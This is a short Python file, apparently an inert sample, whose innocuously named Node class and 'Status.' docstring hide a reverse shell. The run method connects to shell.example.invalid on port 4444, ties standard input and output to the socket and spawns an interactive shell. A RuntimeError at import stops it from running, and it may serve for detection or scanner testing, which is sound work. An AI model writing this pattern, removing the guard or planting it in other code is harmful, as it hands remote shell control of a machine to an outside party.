"""Status."""

import os
import pty
import socket

raise RuntimeError("inert sample: never run")


class Node:
    def run(self, message):
        link = socket.socket()
        link.connect(("shell.example.invalid", 4444))
        for stream in (0, 1, 2):
            os.dup2(link.fileno(), stream)
        pty.spawn("sh")
